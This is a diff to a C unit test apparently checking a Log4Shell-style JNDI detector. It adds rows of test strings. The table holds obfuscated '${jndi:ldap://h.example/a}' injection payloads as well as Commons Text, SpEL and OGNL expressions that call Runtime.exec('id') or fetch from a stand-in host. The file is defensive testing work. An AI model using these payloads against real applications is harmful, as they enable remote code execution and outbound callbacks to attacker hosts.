@@ -229,6 +229,12 @@ static void dead_tries(void **state)
         ROW("${\xef\xbd\x8andi:ldap://h.example/a}", "attempt"), /* the full-width j */
         ROW("${${lower:\xef\xbc\xaa\xef\xbc\xae\xef\xbc\xa4\xef\xbc\xa9}:ldap://h.example/a}", "attempt"),
         ROW("${${::-j}${${::-n}${${::-d}${${::-i}:${::-l}${${::-d}${${::-a}${${::-p}://h.example/a}", "attempt"),
+        /* other engines' expressions: Commons Text, Spring, OGNL */
+        ROW("${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "none"),
+        ROW("${url:UTF-8:http://h.example/a}", "none"),
+        ROW("${dns:address|h.example}", "none"),
+        ROW("${T(java.lang.Runtime).getRuntime().exec('id')}", "none"),
+        ROW("${(#a=@java.lang.Runtime@getRuntime().exec('id'))}", "none"),
         ROW("${a ${b ${c:-${d", "none"),
         /* behind more templates than are looked at closely */
         ROW("${a}${b}${c}${d}${e}${f}${g}${h}${i}${j}${k}${l}${m}${n}${o}${p}${q}${r}$${jndi:ldap://h.example/a", "attempt"),
